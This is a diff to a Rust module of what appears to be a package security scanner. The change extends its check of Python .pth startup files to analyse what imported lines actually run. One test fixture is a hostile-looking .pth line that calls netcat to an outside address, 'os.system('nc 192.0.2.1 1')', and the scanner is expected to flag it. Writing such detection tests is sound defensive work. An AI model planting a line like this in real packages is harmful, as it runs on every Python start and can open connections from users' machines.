@@ -10,10 +10,12 @@
 //! Not checked: what stands in the specs below.
 
 use super::archive::shown;
+use super::python;
 use super::text::looks_like_text;
 use super::{Artifact, Claim, Content, Context, Format, FormatSpec, Probe};
 use crate::budget::Budget;
-use crate::report::escape_bytes;
+use crate::detect::python::{Dialect, judge};
+use crate::report::{Span, escape_bytes};
 use crate::rules::packages::STARTUP_HOOK;
 use crate::wire::Fault;
 use crate::wire::zip_directory::{Caps, find_central, walk};
@@ -57,7 +59,7 @@ static PATH_FILE: FormatSpec = FormatSpec {
     content: Content::Data,
     layer_of: Some("text"),
     references: &["https://docs.python.org/3/library/site.html"],
-    limitations: &["What the lines compute is not followed."],
+    limitations: &["Modules that the lines import are judged by themselves."],
 };
 
 impl Format for Wheel {
@@ -138,17 +140,32 @@ impl Format for PathFile {
             let end = at.saturating_add(line.len() as u64);
             let text = line.strip_prefix(b"\xef\xbb\xbf").unwrap_or(line);
             if text.starts_with(b"import ") || text.starts_with(b"import\t") {
-                let text = text
+                let shown = text
                     .get(..text.len().min(SHOWN_CAP_BYTES))
                     .unwrap_or_default();
-                let message = format!("Python runs `{}` when it starts", escape_bytes(text));
-                cx.report(STARTUP_HOOK.at(at..end).message(message).bytes(text));
+                let message = format!("Python runs `{}` when it starts", escape_bytes(shown));
+                cx.report(STARTUP_HOOK.at(at..end).message(message).bytes(shown));
+                startup_line(text, at..end, cx)?;
             }
             at = end.saturating_add(1);
         }
         chunk.verify()?;
         Ok(())
     }
+}
+
+/// What a line does that runs whenever Python starts.
+fn startup_line(line: &[u8], span: Span, cx: &mut Context<'_>) -> Result<(), Fault> {
+    let text = String::from_utf8_lossy(line);
+    let program = judge(&text, Dialect::Module, cx.budget())?;
+    let text = python::Text {
+        text: &text,
+        role: python::Role::Startup,
+        label: Some(&|_| "the line".to_owned()),
+        place: &|_, _| span.clone(),
+    };
+    python::report(&program, &text, cx);
+    Ok(())
 }
 
 #[cfg(test)]
@@ -160,10 +177,9 @@ mod tests {
     #[test]
     fn lines_that_run_are_told_and_paths_are_not() {
         let said = |text: &str| examine(&PathFile, "x.pth", text);
-        assert_eq!(
-            said("import os; os.system('id')\n").rules(),
-            ["python-startup-hook"]
-        );
+        let runs = said("import os; os.system('nc 192.0.2.1 1')\n");
+        assert_eq!(runs.rules(), ["python-runs-command", "python-startup-hook"]);
+        assert_eq!(said("import x; x.y()\n").rules(), ["python-startup-hook"]);
         assert_eq!(said("../src\nimport\tx").findings[0].place.offset, Some(7));
         assert!(said("../src\n# import x\nimportant\n import x\n").is_clean());
         assert_eq!(recognise(&PathFile, "x.pth", "a\n"), Claim::Magic);
